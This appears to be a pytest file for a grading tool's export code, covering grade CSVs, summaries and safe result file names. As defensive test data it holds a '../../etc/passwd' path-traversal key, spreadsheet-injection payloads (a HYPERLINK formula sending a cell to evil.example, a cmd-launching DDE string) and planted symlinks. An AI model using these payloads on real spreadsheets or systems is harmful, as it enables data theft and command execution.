from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from grader.batch.exports import (
    file_stem,
    grades_csv,
    spreadsheet_text,
    summary,
    write_outputs,
)
from grader.records import TestScore
from tests.helpers import make_row


def scored(*passed: bool) -> tuple[...]:
    return tuple(TestScore(name=f"t{i}", function="corr2d", score=5.0 * ok, max_score=5.0, passed=ok, hidden=i == 1,
                           feedback="", detail="") for i, ok in enumerate(passed))


ROWS = (
    make_row("alice", score=10.0, tests=scored(True, True)),
    make_row("bob", score=5.0, tests=scored(True, False), timeouts=2),
    make_row("200+201", score=0.0, members=("200", "201"), tests=scored(False, False), library_convolutions={}),
    make_row("eve", score=0.0, status="unusable", reason="is truncated", tests=(), assignment_digest="",
             library_convolutions={}),
)


def test_grades_csv_has_a_row_per_student_and_a_column_per_test() -> None:
    table = list(csv.DictReader(io.StringIO(grades_csv(ROWS))))
    assert [r["student"] for r in table] == ["200", "201", "alice", "bob", "eve"]
    alice = next(r for r in table if r["student"] == "alice")
    assert [alice[column] for column in ("score", "max_score", "percent", "t0", "t1")] == ["10", "10", "100", "5", "5"]
    bob = next(r for r in table if r["student"] == "bob")
    assert (bob["t0"], bob["t1"], bob["lms_id"]) == ("5", "0", "42")
    eve = next(r for r in table if r["student"] == "eve")
    assert (eve["status"], eve["score"], eve["t0"]) == ("unusable", "0", "")


def test_tests_of_several_assignments_are_told_apart_in_the_columns() -> None:
    other = make_row("zed", assignment="other", tests=scored(True))
    header = grades_csv((ROWS[0], other)).splitlines()[0].split(",")
    assert header[-3:] == ["toy:t0", "toy:t1", "other:t0"]


def test_summary_gives_the_distribution_worst_tests_first_and_the_submissions_to_look_at() -> None:
    report = summary(ROWS)
    assert (report["submissions"], report["students"], report["graded"], report["unusable"]) == (4, 5, 3, 1)
    assert report["score_percent"]["histogram"]["counts"] == [2, 0, 0, 0, 0, 1, 0, 0, 0, 1]
    assert [(t["name"], t["pass_rate"]) for t in report["tests"]] == [("t1", 0.3333), ("t0", 0.6667)]
    assert report["tests"][0]["hidden"] is True and report["tests"][0]["attempts"] == 3
    assert report["flagged"]["timed_out"] == ["bob"]
    assert report["flagged"]["library_convolution"] == [{"student": "alice", "functions": ["corr2d"]},
                                                        {"student": "bob", "functions": ["corr2d"]}]
    assert report["flagged"]["unusable"] == [{"student": "eve", "reason": "is truncated"}]


def test_write_outputs_writes_a_results_file_per_submission_with_a_safe_name(tmp_path: Path) -> None:
    write_outputs(ROWS + (make_row("../../etc/passwd"),), tmp_path)
    names = sorted(p.name for p in (tmp_path / "results").iterdir())
    assert names == sorted(f"{file_stem(key)}.json" for key in ("200+201", "alice", "bob", "../../etc/passwd", "eve"))
    assert f"{file_stem('../../etc/passwd')}.json".startswith("etc_passwd-")
    assert json.loads((tmp_path / "results" / f"{file_stem('alice')}.json").read_text()) == ROWS[0].results
    written = json.loads((tmp_path / "summary.json").read_text())
    assert written["submissions"] == 5 and written["files"]["alice"] == file_stem("alice")
    assert (tmp_path / "grades.csv").read_text().startswith("student,lms_id,assignment")
    assert not list(tmp_path.rglob(".*partial"))


def test_file_stem_keeps_readable_names_and_never_makes_a_path() -> None:
    assert file_stem("Jane Doe").startswith("Jane_Doe-")
    assert file_stem("alice/part1.ipynb").startswith("alice_part1.ipynb-")
    assert file_stem("..").startswith("student-")
    assert all("/" not in file_stem(key) and not file_stem(key).startswith(".") for key in ("..", "/", "a/../b"))


def test_names_that_differ_only_in_punctuation_get_distinct_files(tmp_path: Path) -> None:
    keys = ("Li Wei", "Li, Wei", "Li_Wei", "li wei", "Li  Wei")
    assert len({file_stem(key) for key in keys}) == len(keys)
    assert len({file_stem(key).lower() for key in keys}) == len(keys)  # a case-blind file system too
    write_outputs(tuple(make_row(key, score=float(i)) for i, key in enumerate(keys)), tmp_path)
    scores = {json.loads(path.read_text())["score"] for path in (tmp_path / "results").iterdir()}
    assert scores == {0.0, 1.0, 2.0, 3.0, 4.0}


def test_results_of_keys_no_longer_current_are_removed(tmp_path: Path) -> None:
    write_outputs(ROWS, tmp_path)
    (tmp_path / "results" / "alice.json").write_text("{}")  # as the earlier naming wrote it
    write_outputs(ROWS[:2], tmp_path)
    assert sorted(p.name for p in (tmp_path / "results").iterdir()) == sorted(
        f"{file_stem(key)}.json" for key in ("alice", "bob"))


FORMULAS = ("=HYPERLINK(\"https://evil.example/?\"&A1,\"grade\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "  =1+1")


def test_a_name_a_spreadsheet_would_read_as_a_formula_is_neutralised() -> None:
    rows = tuple(make_row(name, lms_id="=1+1" if i == 0 else "42") for i, name in enumerate(FORMULAS))
    text = grades_csv(rows + (make_row("O'Brien"),))
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert len(table) == len(FORMULAS) + 2 and text.count("\r\n") == len(table)  # no name splits a row
    cells = {row[0] for row in table[1:]}
    assert cells == {f"'{name}" for name in FORMULAS} | {"O'Brien"}
    assert {row[1] for row in table[1:]} == {"'=1+1", "42"}
    assert all(not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for row in table for cell in row)
    assert spreadsheet_text("alice") == "alice" and spreadsheet_text("") == ""


def test_collection_warnings_are_listed_in_the_summary() -> None:
    warned = make_row("alice/alice/a/hw.ipynb", warnings=("2 notebooks were found for 'alice': ...",))
    assert summary(ROWS + (warned,))["flagged"]["collection_warnings"] == [
        {"student": "alice/alice/a/hw.ipynb", "warnings": ["2 notebooks were found for 'alice': ..."]}]
    assert summary(ROWS)["flagged"]["collection_warnings"] == []


def test_links_planted_where_the_outputs_go_are_replaced_never_followed(tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("root's own")
    victim.chmod(0o600)
    out = tmp_path / "out"
    (out / "results").mkdir(parents=True)
    for name in ("grades.csv", "summary.json", f"results/{file_stem('alice')}.json"):
        (out / name).symlink_to(victim)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    write_outputs(ROWS, out)
    assert victim.read_text() == "root's own" and victim.stat().st_mode & 0o777 == 0o600
    for name in ("grades.csv", "summary.json", f"results/{file_stem('alice')}.json"):
        assert not (out / name).is_symlink() and (out / name).is_file()
    (out / "results").rename(tmp_path / "old_results")
    (out / "results").symlink_to(elsewhere, target_is_directory=True)  # a planted folder link
    write_outputs(ROWS, out)
    assert list(elsewhere.iterdir()) == [] and not (out / "results").is_symlink()
    assert len(list((out / "results").iterdir())) == len(ROWS)
